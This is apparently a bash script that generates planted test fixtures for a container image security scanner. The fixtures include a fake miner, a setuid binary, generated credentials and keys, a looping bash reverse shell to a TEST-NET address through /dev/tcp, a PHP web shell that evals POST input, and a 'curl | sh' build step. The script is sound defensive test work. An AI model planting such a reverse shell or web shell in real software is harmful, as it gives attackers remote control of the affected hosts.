#!/bin/bash
# Generate the planted layer: a directory of files that the scanner must
# report (a fake miner, a setuid binary, authorized_keys, ld.so.preload,
# AWS keys, private keys, a reverse shell, a PHP web shell, a
# world-writable system directory), plus an image config overlay for
# tests/images/build.sh --config (root user, port 22, a token in Env, a
# curl | sh history step, no HEALTHCHECK).
#
# Keys and tokens are generated here with openssl and ssh-keygen, so no
# credential, even a fake one, is ever committed. They are random and
# belong to nothing. Output is cached in $DSEC_IMAGE_CACHE (default
# /var/cache/dsec/images) under a key made of this script's hash, so the
# keys stay the same between runs and build.sh can reuse its image.
#
# Usage: tests/images/planted/generate.sh
# Prints the output directory, which holds:
#   layer/        the layer directory for build.sh
#   config.json   the image config overlay for build.sh --config
#   expected.env  the planted values (NAME=value lines) for the tests
set -euo pipefail

cache=${DSEC_IMAGE_CACHE:-/var/cache/dsec/images}
key=$(sha256sum "$0" | cut -c1-16)
out=$cache/planted-$key
if [ -e "$out/.done" ]; then
	echo "$out"
	exit 0
fi
for tool in openssl ssh-keygen gcc; do
	command -v "$tool" >/dev/null ||
		{ echo "generate.sh: '$tool' not found; install it (tests/deps.sh)" >&2; exit 1; }
done

mkdir -p "$cache"
rm -rf "$out.tmp"
mkdir -p "$out.tmp"
trap 'rm -rf "$out.tmp"' EXIT
layer=$out.tmp/layer
umask 022

# Random strings from a character set, from openssl's generator.
random_chars() {
	local set=$1 n=$2 s=
	while [ ${#s} -lt "$n" ]; do
		s+=$(openssl rand 256 | tr -dc "$set")
	done
	printf '%s' "${s:0:$n}"
}

# An AWS secret key as AWS issues them (40 base64 characters), with
# upper case, lower case and a digit, because the scanner requires all
# three.
aws_secret() {
	local s
	while :; do
		s=$(random_chars 'A-Za-z0-9/+' 40)
		[[ $s =~ [A-Z] && $s =~ [a-z] && $s =~ [0-9] ]] && break
	done
	printf '%s' "$s"
}

aws_key_id=AKIA$(random_chars 'A-Z2-7' 16)
aws_secret_key=$(aws_secret)
github_token=ghp_$(random_chars 'A-Za-z0-9' 36)
# A Monero primary address: "4", one of [0-9AB], 93 base58 characters.
wallet=4$(random_chars '0-9AB' 1)$(random_chars '1-9A-HJ-NP-Za-km-z' 93)

mkdir -p "$layer/etc" "$layer/root/.ssh" "$layer/root/.aws" \
	"$layer/usr/local/bin" "$layer/usr/local/lib/plugins" \
	"$layer/srv/app" "$layer/var/www/html"
# Directories in a layer replace the mode of the lower layer's: keep the
# ones a minbase image has.
chmod 0700 "$layer/root" "$layer/root/.ssh" "$layer/root/.aws"

# Fake miner: a small ELF that only prints its name, with the strings a
# real XMRig build carries (name, donate level, algorithm, pool URL).
cat >"$out.tmp/miner.c" <<'EOF'
#include <stdio.h>

static const char *const strings[] = {
	"XMRig 6.21.0 (fake, for dsec scanner tests)",
	"--donate-level=1",
	"rx/0",
	"stratum+tcp://pool.example.invalid:3333",
};

int main(void)
{
	unsigned int i;

	for (i = 0; i < sizeof(strings) / sizeof(strings[0]); i++)
		puts(strings[i]);
	return 0;
}
EOF
gcc -O1 -o "$layer/usr/local/bin/kworkerd" "$out.tmp/miner.c"
cat >"$layer/root/.xmrig.json" <<EOF
{
    "autosave": true,
    "pools": [
        {
            "url": "pool.example.invalid:443",
            "user": "$wallet",
            "pass": "x",
            "tls": true
        }
    ]
}
EOF

# Setuid root binary outside the system directories.
cp /bin/true "$layer/usr/local/bin/suid-helper"
chmod 4755 "$layer/usr/local/bin/suid-helper"

# World-writable system directory without the sticky bit.
chmod 0777 "$layer/usr/local/lib/plugins"

echo /usr/local/lib/libsysupdate.so >"$layer/etc/ld.so.preload"

# OpenSSH key pair: the private key stays in /root/.ssh, the public key
# is baked into authorized_keys.
ssh-keygen -q -t ed25519 -N '' -C 'deploy@build-host' -f "$layer/root/.ssh/id_ed25519"
cp "$layer/root/.ssh/id_ed25519.pub" "$layer/root/.ssh/authorized_keys"
chmod 0600 "$layer/root/.ssh/authorized_keys"

# PEM private key of an application.
openssl genpkey -algorithm RSA -pkeyopt rsa_keygen_bits:2048 \
	-out "$layer/srv/app/tls.key" 2>/dev/null
chmod 0600 "$layer/srv/app/tls.key"

cat >"$layer/root/.aws/credentials" <<EOF
[default]
aws_access_key_id = $aws_key_id
aws_secret_access_key = $aws_secret_key
region = eu-west-1
EOF
chmod 0600 "$layer/root/.aws/credentials"

# Reverse shell to a TEST-NET-3 address (RFC 5737), never contacted.
cat >"$layer/usr/local/bin/net-check.sh" <<'EOF'
#!/bin/bash
# Reconnects every minute.
while :; do
	bash -i >& /dev/tcp/203.0.113.7/4444 0>&1
	sleep 60
done
EOF
chmod 0755 "$layer/usr/local/bin/net-check.sh"

cat >"$layer/var/www/html/upload.php" <<'EOF'
<?php
if (isset($_POST['c'])) {
	eval($_POST['c']);
}
echo "upload ok";
EOF

cat >"$out.tmp/config.json" <<EOF
{
  "config": {
    "User": "root",
    "Env": [
      "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
      "GITHUB_TOKEN=$github_token"
    ],
    "ExposedPorts": { "22/tcp": {}, "8080/tcp": {} },
    "Cmd": ["/usr/local/bin/kworkerd"],
    "WorkingDir": "/srv/app"
  },
  "history": [
    { "created_by": "/bin/sh -c curl -fsSL https://get.example.invalid/install.sh | sh",
      "empty_layer": true }
  ]
}
EOF

cat >"$out.tmp/expected.env" <<EOF
AWS_ACCESS_KEY_ID=$aws_key_id
AWS_SECRET_ACCESS_KEY=$aws_secret_key
GITHUB_TOKEN=$github_token
MONERO_WALLET=$wallet
EOF
rm "$out.tmp/miner.c"

trap - EXIT
rm -rf "$out"
mv "$out.tmp" "$out"
touch "$out/.done"
echo "$out"
